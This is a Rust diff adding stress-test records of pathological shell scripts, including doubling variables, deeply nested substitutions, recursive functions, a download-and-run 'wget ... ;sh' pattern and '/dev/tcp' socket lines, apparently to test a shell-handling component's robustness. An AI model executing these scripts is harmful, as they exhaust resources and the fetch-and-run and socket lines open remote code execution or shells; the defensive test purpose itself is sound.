@@ -74,6 +74,25 @@ pub fn costly_records() -> Vec<(String, Vec<u8>)> {
         });
     }
 
+    // What a shell would do.
+    for (name, text) in [
+        ("variables that double", format!("a=xxxxxxxx;{}", "a=$a$a;".repeat(1000))),
+        ("files that double", format!("echo x>a;{}", "cat a a>b;cat b b>a;".repeat(400))),
+        ("substitutions in substitutions", format!("{}id{}", "$(".repeat(2000), ")".repeat(2000))),
+        ("quotes that never close", "'\"$(`".repeat(1500)),
+        ("here-documents", "cat <<A\n".repeat(1000)),
+        ("braces", "{a,b}{a,b} ".repeat(700)),
+        ("evaluations", "eval eval ".repeat(800)),
+        ("pipes", "cat|".repeat(2000)),
+        ("groups", "{ (".repeat(2500)),
+        ("functions that call each other", format!("f() {{ f $1$1; }}; {}", "f x;".repeat(1500))),
+        ("files with sources", pieces(|number| format!("wget h.x/{number};sh {number}")).join(";")),
+        ("wildcards", "/???/*?*l ".repeat(700)),
+        ("sockets", "exec 5<>/dev/tcp/h/1;".repeat(400)),
+    ] {
+        add(&format!("a script of {name}"), lifecycle(&text));
+    }
+
     // What is compared with each other.
     let member = |number: usize| format!("m{number:06}");
     let members: Value =
